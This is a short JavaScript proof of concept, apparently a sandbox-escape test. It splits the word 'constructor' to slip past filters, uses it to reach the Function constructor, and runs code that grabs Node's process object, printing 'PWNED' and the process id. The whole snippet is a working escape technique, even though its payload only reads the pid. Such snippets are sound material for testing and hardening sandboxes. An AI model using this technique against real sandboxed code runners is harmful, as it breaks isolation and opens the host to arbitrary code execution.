const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const got = [];
[1].forEach(function () { got.push(this.go(fn)); }, t);
console.log('PWNED', got[0]('return process')().pid);
